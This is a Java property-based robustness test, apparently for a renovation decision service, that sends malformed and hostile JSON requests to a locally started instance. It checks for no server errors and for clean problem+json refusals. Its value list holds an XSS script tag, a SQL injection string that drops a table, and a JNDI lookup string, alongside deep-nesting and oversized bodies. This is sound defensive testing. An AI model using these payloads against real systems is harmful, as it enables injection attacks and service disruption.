package cn.wenzhou.renovation.robustness;

import static org.assertj.core.api.Assertions.assertThat;

import cn.wenzhou.renovation.RenovationDecisionServiceApplication;
import cn.wenzhou.renovation.testing.SpecExamples;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.AfterProperty;
import net.jqwik.api.lifecycle.BeforeContainer;
import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.context.ConfigurableApplicationContext;

/**
 * Hundreds of malformed or hostile requests per JSON endpoint, over real HTTP: each a valid example
 * from the spec with one thing broken (a field of the wrong type, a huge or negative number, a 1 MB
 * string, deep nesting, an unknown enum value, a date far away, a field missing or unknown), or a body
 * that is not JSON at all (invalid UTF-8, truncated, empty), or the wrong content type. The service
 * must never answer 5xx, must answer every refusal as application/problem+json naming a field or the
 * body and no Java class, and must still answer the valid example afterwards. (Blank strings in typed fields,
 * duplicate keys and trailing content, each with the exact field it must name: {@link StrictInputProperties}.)
 */
class HostileRequestProperties {

    private static final int TRIES = 500;
    private static final String PLACEHOLDER = "\"__HOSTILE_VALUE__\"";
    /** A package path or Jackson's back-quoted type name: what a problem once quoted from Jackson's own message. */
    private static final java.util.regex.Pattern JAVA_CLASS =
            java.util.regex.Pattern.compile("\\b(java|javax|jakarta|com|org|cn)\\.[a-z]\\w*\\.|`|JsonToken");

    private static ConfigurableApplicationContext service;
    private static URI base;
    private static Map<String, JsonNode> examples;
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final HttpClient HTTP =
            HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

    @BeforeContainer
    static void startService() throws IOException {
        service = new SpringApplicationBuilder(RenovationDecisionServiceApplication.class)
                .properties(
                        "server.port=0",
                        "logging.level.renovation.requests=WARN",
                        "renovation.data-dir=" + Files.createTempDirectory("hostile-requests"))
                .run();
        base = URI.create("http://localhost:" + service.getEnvironment().getProperty("local.server.port"));
        examples = SpecExamples.firstJsonRequestExamples();
    }

    @AfterContainer
    static void stopService() {
        if (service != null) {
            service.close();
        }
    }

    @Example
    void everyJsonOperationOfTheSpecIsCoveredHere() {
        Set<String> covered = new TreeSet<>(List.of(
                "/api/v1/eligibility",
                "/api/v1/consent/tally",
                "/api/v1/consent/notice",
                "/api/v1/catalog/classify",
                "/api/v1/plans/check",
                "/api/v1/surveys/consultation",
                "/api/v1/surveys/satisfaction",
                "/api/v1/funding/readiness",
                "/api/v1/approvals/plan",
                "/api/v1/procedure/status",
                "/api/v1/calendar/working-days",
                "/api/v1/assessments",
                "/api/v1/assessments/batch"));
        assertThat(new TreeSet<>(examples.keySet())).isEqualTo(covered);
    }

    @Property(tries = TRIES)
    void eligibility(@ForAll("hostile") Mutation mutation) throws Exception {
        survives("/api/v1/eligibility", mutation);
    }

    @Property(tries = TRIES)
    void consentTally(@ForAll("hostile") Mutation mutation) throws Exception {
        survives("/api/v1/consent/tally", mutation);
    }

    @Property(tries = TRIES)
    void consentNotice(@ForAll("hostile") Mutation mutation) throws Exception {
        survives("/api/v1/consent/notice", mutation);
    }

    @Property(tries = TRIES)
    void catalogueClassification(@ForAll("hostile") Mutation mutation) throws Exception {
        survives("/api/v1/catalog/classify", mutation);
    }

    @Property(tries = TRIES)
    void planCheck(@ForAll("hostile") Mutation mutation) throws Exception {
        survives("/api/v1/plans/check", mutation);
    }

    @Property(tries = TRIES)
    void consultationSurvey(@ForAll("hostile") Mutation mutation) throws Exception {
        survives("/api/v1/surveys/consultation", mutation);
    }

    @Property(tries = TRIES)
    void satisfactionSurvey(@ForAll("hostile") Mutation mutation) throws Exception {
        survives("/api/v1/surveys/satisfaction", mutation);
    }

    @Property(tries = TRIES)
    void fundingReadiness(@ForAll("hostile") Mutation mutation) throws Exception {
        survives("/api/v1/funding/readiness", mutation);
    }

    @Property(tries = TRIES)
    void approvalPlan(@ForAll("hostile") Mutation mutation) throws Exception {
        survives("/api/v1/approvals/plan", mutation);
    }

    @Property(tries = TRIES)
    void procedureStatus(@ForAll("hostile") Mutation mutation) throws Exception {
        survives("/api/v1/procedure/status", mutation);
    }

    @Property(tries = TRIES)
    void workingDays(@ForAll("hostile") Mutation mutation) throws Exception {
        survives("/api/v1/calendar/working-days", mutation);
    }

    @Property(tries = TRIES)
    void wholeProjectAssessment(@ForAll("hostile") Mutation mutation) throws Exception {
        survives("/api/v1/assessments", mutation);
    }

    @Property(tries = TRIES)
    void batchAssessment(@ForAll("hostile") Mutation mutation) throws Exception {
        survives("/api/v1/assessments/batch", mutation);
    }

    private static void survives(String path, Mutation mutation) throws Exception {
        JsonNode example = examples.get(path);
        HttpResponse<String> response = send(path, mutation.contentType(), mutation.body(example));
        int status = response.statusCode();
        assertThat(status)
                .as("%s %s → %s", path, mutation, abbreviated(response.body()))
                .isLessThan(500);
        if (status >= 400) {
            assertThat(response.headers().firstValue("Content-Type"))
                    .as("%s %s", path, mutation)
                    .hasValueSatisfying(type -> assertThat(type).startsWith("application/problem+json"));
            JsonNode problem = JSON.readTree(response.body());
            assertThat(problem.path("code").asText())
                    .as("stable code: %s", abbreviated(response.body()))
                    .isNotBlank();
            assertThat(JAVA_CLASS.matcher(response.body()).find())
                    .as("a Java class named: %s %s", mutation, abbreviated(response.body()))
                    .isFalse();
            if (status == 400 || status == 413) {
                assertThat(problem.path("errors").path(0).path("field").asText())
                        .as("names a field or the body: %s %s", mutation, abbreviated(response.body()))
                        .isNotBlank();
            }
        }
        lastPath = path;
    }

    /** The endpoint the last property attacked; after all its tries it must still answer its valid example. */
    private static volatile String lastPath;

    @AfterProperty
    void stillAnswersTheValidExample() throws Exception {
        if (lastPath == null) {
            return;
        }
        HttpResponse<String> valid = send(lastPath, "application/json", JSON.writeValueAsBytes(examples.get(lastPath)));
        assertThat(valid.statusCode())
                .as("%s, its valid example afterwards: %s", lastPath, abbreviated(valid.body()))
                .isLessThan(300);
        lastPath = null;
    }

    private static HttpResponse<String> send(String path, String contentType, byte[] body) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(base.resolve(path))
                .timeout(Duration.ofSeconds(60))
                .header("Content-Type", contentType)
                .POST(HttpRequest.BodyPublishers.ofByteArray(body))
                .build();
        return HTTP.send(request, HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
    }

    private static String abbreviated(String text) {
        return text.length() > 600 ? text.substring(0, 600) + "…" : text;
    }

    @Provide
    Arbitrary<Mutation> hostile() {
        Arbitrary<Integer> anyField = Arbitraries.integers().between(0, 10_000);
        Arbitrary<Mutation> setField = Combinators.combine(anyField, hostileValues())
                .as((field, value) -> new Mutation(Kind.SET_FIELD, field, value, null));
        Arbitrary<Mutation> removeField = anyField.map(field -> new Mutation(Kind.REMOVE_FIELD, field, null, null));
        Arbitrary<Mutation> unknownField =
                anyField.map(field -> new Mutation(Kind.ADD_UNKNOWN_FIELD, field, null, null));
        Arbitrary<Mutation> rawBody = rawBodies().map(bytes -> new Mutation(Kind.RAW_BODY, 0, null, bytes));
        Arbitrary<Mutation> truncated = anyField.map(at -> new Mutation(Kind.TRUNCATED, at, null, null));
        Arbitrary<Mutation> invalidUtf8 = anyField.map(at -> new Mutation(Kind.INVALID_UTF8, at, null, null));
        Arbitrary<Mutation> wrongType = Arbitraries.of(
                        "text/plain", "application/xml", "application/x-www-form-urlencoded")
                .map(type -> new Mutation(Kind.WRONG_CONTENT_TYPE, 0, type, null));
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(10, setField),
                net.jqwik.api.Tuple.of(3, removeField),
                net.jqwik.api.Tuple.of(2, unknownField),
                net.jqwik.api.Tuple.of(2, rawBody),
                net.jqwik.api.Tuple.of(2, truncated),
                net.jqwik.api.Tuple.of(1, invalidUtf8),
                net.jqwik.api.Tuple.of(1, wrongType));
    }

    /** Raw JSON text put in place of one value. */
    private static Arbitrary<String> hostileValues() {
        return Arbitraries.oneOf(
                Arbitraries.of(
                        "1e400",
                        "-1e400",
                        "-1",
                        "-0.01",
                        "0",
                        "99999999999999999999999999999999",
                        "0.123456789012345678901234567890",
                        "-2147483649",
                        "9223372036854775808",
                        "12.5",
                        "true",
                        "false",
                        "null",
                        "{}",
                        "[]",
                        "[1,2,3]",
                        "\"\"",
                        "\"   \"",
                        "\"NOT_A_KNOWN_VALUE\"",
                        "\"9999-12-31\"",
                        "\"0001-01-01\"",
                        "\"2026-02-30\"",
                        "\"1900-01-01\"",
                        "\"26-3-1\"",
                        "\"１２３\"",
                        "\"12\"",
                        "\"\\u0000\"",
                        "\"<script>alert(1)</script>\"",
                        "\"'; DROP TABLE decision_receipt; --\"",
                        "{\"$ref\": \"#/\"}",
                        "\"${jndi:ldap://example.invalid/a}\""),
                Arbitraries.integers().between(1_000, 5_000).map(depth -> "[".repeat(depth) + "]".repeat(depth)),
                Arbitraries.integers()
                        .between(1_000, 3_000)
                        .map(depth -> "{\"a\":".repeat(depth) + "1" + "}".repeat(depth)),
                Arbitraries.of(1_000_000, 100_000).map(length -> "\"" + "宅".repeat(length) + "\""),
                Arbitraries.strings()
                        .ofMaxLength(40)
                        .map(text -> JSON.valueToTree(text).toString()),
                Arbitraries.bigDecimals()
                        .between(new java.math.BigDecimal("-1e12"), new java.math.BigDecimal("1e12"))
                        .ofScale(6)
                        .map(java.math.BigDecimal::toPlainString));
    }

    /** Whole bodies that are not the request at all. */
    private static Arbitrary<byte[]> rawBodies() {
        return Arbitraries.oneOf(
                Arbitraries.of("", "null", "[]", "{}", "\"text\"", "42", "{\"a\":", "}{", "NaN")
                        .map(t -> t.getBytes(StandardCharsets.UTF_8)),
                Arbitraries.integers()
                        .between(10_000, 200_000)
                        .map(depth -> "[".repeat(depth).getBytes(StandardCharsets.US_ASCII)),
                Arbitraries.bytes().array(byte[].class).ofMaxSize(2_000));
    }

    enum Kind {
        SET_FIELD,
        REMOVE_FIELD,
        ADD_UNKNOWN_FIELD,
        RAW_BODY,
        TRUNCATED,
        INVALID_UTF8,
        WRONG_CONTENT_TYPE
    }

    /** One thing broken in a valid example; {@code at} picks the field (or the cut) modulo what the example has. */
    record Mutation(Kind kind, int at, String text, byte[] bytes) {

        String contentType() {
            return kind == Kind.WRONG_CONTENT_TYPE ? text : "application/json";
        }

        byte[] body(JsonNode example) throws IOException {
            byte[] valid = JSON.writeValueAsBytes(example);
            return switch (kind) {
                case SET_FIELD -> {
                    JsonNode copy = example.deepCopy();
                    List<Slot> slots = slots(copy);
                    slots.get(at % slots.size()).replace(TextNode.valueOf("__HOSTILE_VALUE__"));
                    yield JSON.writeValueAsString(copy)
                            .replace(PLACEHOLDER, text)
                            .getBytes(StandardCharsets.UTF_8);
                }
                case REMOVE_FIELD -> {
                    JsonNode copy = example.deepCopy();
                    List<Slot> slots = slots(copy);
                    slots.get(at % slots.size()).remove();
                    yield JSON.writeValueAsBytes(copy);
                }
                case ADD_UNKNOWN_FIELD -> {
                    JsonNode copy = example.deepCopy();
                    List<ObjectNode> objects = new ArrayList<>();
                    collectObjects(copy, objects);
                    objects.get(at % objects.size()).put("unexpectedField" + at, "值");
                    yield JSON.writeValueAsBytes(copy);
                }
                case RAW_BODY -> bytes;
                case TRUNCATED -> java.util.Arrays.copyOf(valid, at % Math.max(1, valid.length - 1));
                case INVALID_UTF8 -> {
                    ByteArrayOutputStream broken = new ByteArrayOutputStream();
                    int cut = valid.length == 0 ? 0 : at % valid.length;
                    broken.write(valid, 0, cut);
                    broken.write(new byte[] {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE});
                    broken.write(valid, cut, valid.length - cut);
                    yield broken.toByteArray();
                }
                case WRONG_CONTENT_TYPE -> valid;
            };
        }

        @Override
        public String toString() {
            String shown =
                    text == null ? "" : text.length() > 60 ? text.substring(0, 60) + "…(" + text.length() + ")" : text;
            return kind + "@" + at + (shown.isEmpty() ? "" : " " + shown)
                    + (bytes == null ? "" : " " + bytes.length + " bytes");
        }
    }

    /** A place in the example tree that holds a value: a field of an object or an element of an array. */
    private record Slot(JsonNode parent, String field, int index) {

        void replace(JsonNode value) {
            if (parent instanceof ObjectNode object) {
                object.set(field, value);
            } else {
                ((ArrayNode) parent).set(index, value);
            }
        }

        void remove() {
            if (parent instanceof ObjectNode object) {
                object.remove(field);
            } else {
                ((ArrayNode) parent).remove(index);
            }
        }
    }

    private static List<Slot> slots(JsonNode root) {
        List<Slot> slots = new ArrayList<>();
        collectSlots(root, slots);
        return slots;
    }

    private static void collectSlots(JsonNode node, List<Slot> slots) {
        if (node instanceof ObjectNode object) {
            object.fieldNames().forEachRemaining(name -> {
                slots.add(new Slot(object, name, -1));
                collectSlots(object.get(name), slots);
            });
        } else if (node instanceof ArrayNode array) {
            for (int i = 0; i < array.size(); i++) {
                slots.add(new Slot(array, null, i));
                collectSlots(array.get(i), slots);
            }
        }
    }

    private static void collectObjects(JsonNode node, List<ObjectNode> objects) {
        if (node instanceof ObjectNode object) {
            objects.add(object);
        }
        node.forEach(child -> collectObjects(child, objects));
    }
}
